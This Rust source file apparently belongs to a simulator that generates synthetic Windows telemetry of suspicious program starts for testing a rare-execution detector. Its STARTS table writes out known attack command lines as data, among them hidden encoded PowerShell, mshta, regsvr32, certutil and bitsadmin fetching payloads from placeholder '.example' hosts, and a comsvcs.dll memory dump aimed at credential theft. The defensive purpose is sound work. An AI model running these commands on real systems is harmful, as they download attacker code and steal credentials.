//! A program runs that has no business there: a tool of the system used against it, a strange parent, an unsigned
//! library or driver, a well-known name in a wrong place.

use super::{Casting, Story};
use crate::{
    calendar::seconds,
    dice::{Dice, hex},
    life::{Begun, acting},
    names,
    town::Town,
    truth::Episode,
    windows_host::{EXPLORER, MICROSOFT, SVCHOST, Start},
    world::World,
};

/// One to ten acts, 2 s to 2 h apart (log-uniform), out of one to four of the kinds below.
pub(super) static STORY: Story = Story {
    name: "odd_program",
    about: "A program runs that has no business there: a system tool misused, a strange parent, an unsigned library.",
    technique: "T1059",
    detector: Some("rare_execution"),
    needs: 1,
    instances: 3.0,
    cast,
};

const WORD: &str = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

/// File, arguments, parent, maker; `{x}` stands for random digits, `{b}` for a long piece of base64, `{user}` for the person.
const STARTS: &[(&str, &str, &str, &str)] = &[
    (POWERSHELL, "-nop -w hidden -enc {b}", WORD, MICROSOFT),
    ("C:\\Windows\\System32\\mshta.exe", "http://{x}.example/a.hta", EXPLORER, MICROSOFT),
    ("C:\\Windows\\System32\\regsvr32.exe", "/s /n /u /i:http://{x}.example/f.sct scrobj.dll", CMD, MICROSOFT),
    (
        "C:\\Windows\\System32\\certutil.exe",
        "-urlcache -split -f http://{x}.example/p.txt C:\\Users\\{user}\\p.exe",
        CMD,
        MICROSOFT,
    ),
    ("C:\\Windows\\System32\\rundll32.exe", "C:\\Users\\{user}\\AppData\\Roaming\\{x}.dll,Start", EXPLORER, MICROSOFT),
    ("C:\\ProgramData\\{x}\\svchost.exe", "-k netsvcs", EXPLORER, ""),
    ("C:\\Users\\Public\\{x}.exe", "--connect {x}", SVCHOST, ""),
    ("C:\\Windows\\System32\\wbem\\WMIC.exe", "process call create \"cmd /c {x}.bat\"", WORD, MICROSOFT),
    (
        "C:\\Windows\\System32\\bitsadmin.exe",
        "/transfer {x} http://{x}.example/u.bin C:\\ProgramData\\u.bin",
        CMD,
        MICROSOFT,
    ),
    ("C:\\Windows\\System32\\cscript.exe", "//B C:\\Users\\{user}\\AppData\\Local\\Temp\\{x}.js", WORD, MICROSOFT),
    (
        "C:\\Windows\\System32\\rundll32.exe",
        "C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\{x}.dmp full",
        CMD,
        MICROSOFT,
    ),
    (
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
        "C:\\Users\\{user}\\{x}.csproj",
        EXPLORER,
        MICROSOFT,
    ),
];

fn cast(casting: &mut Casting<'_>) -> Option<Begun> {
    let windows: Vec<String> = casting
        .town
        .hosts
        .iter()
        .enumerate()
        .filter(|(host, _)| casting.town.is_windows(*host))
        .map(|(_, host)| host.name.clone())
        .collect();
    let scene = casting.scene(|host| host.is_computer() && windows.contains(&host.name))?;
    let account = names::person(casting.world.seed, scene.host as u64);
    let dice = &mut casting.dice;
    let kinds: Vec<usize> = (0..1 + dice.below(4)).map(|_| dice.below(STARTS.len() as u64 + 2) as usize).collect();
    let pace = dice.log_uniform(2.0, 7_200.0);
    let mut left = 1 + dice.below(10);
    let episode = casting.note(
        scene,
        Episode {
            account: account.clone(),
            parameters: vec![("acts", left as f64), ("kinds", kinds.len() as f64), ("pace_s", pace)],
            ..Episode::default()
        },
    );
    let mut dice = casting.dice.clone();
    Some(acting(scene.at, move |now, world, town| {
        let machine = &mut town.hosts[scene.host];
        if !machine.awake(now) {
            return Some(machine.next_presence(now)? + seconds(dice.between(20.0, 900.0)));
        }
        let kind = *dice.pick(&kinds);
        town.tell(episode, "act", |town| act(town, world, now, scene.host, &account, kind, &mut dice));
        left -= 1;
        (left > 0).then(|| now + seconds(dice.exponential(pace)) + 1_000)
    }))
}

fn act(town: &mut Town, world: &World, now: i64, host: usize, account: &str, kind: usize, dice: &mut Dice) {
    let Some((image, arguments, parent, company)) = STARTS.get(kind).copied() else {
        let path = format!("C:\\Users\\{account}\\AppData\\Local\\Temp\\{}\\version.dll", hex(dice.bits(), 6));
        if kind == STARTS.len() {
            town.module(host, now, world, Some("C:\\Program Files\\Corlexa\\Reader\\reader.exe"), &path, "");
        } else {
            town.module(host, now, world, None, &format!("C:\\Windows\\Temp\\{}.sys", hex(dice.bits(), 6)), "");
        }
        return;
    };
    let fill = |text: &str, dice: &mut Dice| {
        text.replace("{user}", account).replace("{x}", &hex(dice.bits(), 7)).replace("{b}", &base64_like(dice))
    };
    let image = fill(image, dice);
    let command = format!("\"{image}\" {}", fill(arguments, dice));
    town.start(host, now, world, &Start { image: &image, command: &command, parent, account, company });
}

/// Text of two bytes a character looks like this: every other byte is nothing.
fn base64_like(dice: &mut Dice) -> String {
    let pieces = 30 + dice.below(200);
    (0..pieces).map(|_| *dice.pick(&["JAB", "zAD", "0AI", "gBu", "AGU", "AdA", "AuA", "HcA"])).collect()
}
